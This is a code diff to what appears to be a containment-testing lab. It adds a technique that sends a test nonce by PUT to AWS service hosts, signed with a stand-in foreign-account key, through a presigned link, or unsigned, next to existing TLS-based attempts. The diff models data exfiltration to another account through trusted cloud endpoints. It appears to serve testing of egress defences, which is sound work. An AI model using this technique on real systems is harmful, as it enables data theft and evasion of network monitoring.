@@ -1,4 +1,4 @@
-"""Attempts with the name of a flow: TLS server names, and a client hello that is split, padded, delayed or disguised."""
+"""Attempts with the name of a flow: TLS server names, a disguised client hello, and calls of AWS services for another account."""
 
 from __future__ import annotations
 
@@ -9,6 +9,8 @@ import time
 
 from containment_lab.attacks.client_hello import build_client_hello
 from containment_lab.attacks.task import Attempt, Technique, close_after_delivery, make_trusting_context, unescape_option
+
+_FOREIGN_KEY = "AKIAFOREIGNFOREIGN00"
 
 
 def send_over_tls(attempt: Attempt) -> None:
@@ -86,4 +88,23 @@ def send_client_hello(attempt: Attempt) -> None:
             handle.sendall(build_client_hello(nonce, [second.encode()]))
 
 
-TECHNIQUES: dict[str, Technique] = {"tls": send_over_tls, "hello": send_client_hello}
+def call_aws(attempt: Attempt) -> None:
+    """Call an AWS service with the nonce: signed with a foreign key, with a link presigned elsewhere, or unsigned."""
+    service, how = attempt.get_option("service", "s3"), attempt.get_option("signed", "foreign")
+    name = attempt.get_option("host") or f"{service}.{attempt.region}.amazonaws.com"
+    attempt.options.setdefault("to", f"name:{name}")
+    attempt.marks.append(name)
+    path, sign = attempt.get_option("path", "/"), ""
+    if how == "foreign":
+        sign = f"Authorization: AWS4-HMAC-SHA256 Credential={_FOREIGN_KEY}/20260101/{attempt.region}/{service}/aws4_request\r\n"
+    elif how == "presigned":
+        path += f"?X-Amz-Credential={_FOREIGN_KEY}%2F20260101&X-Amz-Signature=0"
+    method = attempt.get_option("method", "PUT")
+    marker = "X-Lab-Account: foreign\r\n" if how != "none" or "attacker" in name + path else ""
+    request = f"{method} {path} HTTP/1.1\r\nHost: {name}\r\n{sign}{marker}Content-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
+    with close_after_delivery(attempt.connect(443)) as handle, make_trusting_context().wrap_socket(handle, server_hostname=name) as inside:
+        inside.sendall(request.encode())
+        inside.recv(4096)
+
+
+TECHNIQUES: dict[str, Technique] = {"tls": send_over_tls, "hello": send_client_hello, "aws": call_aws}
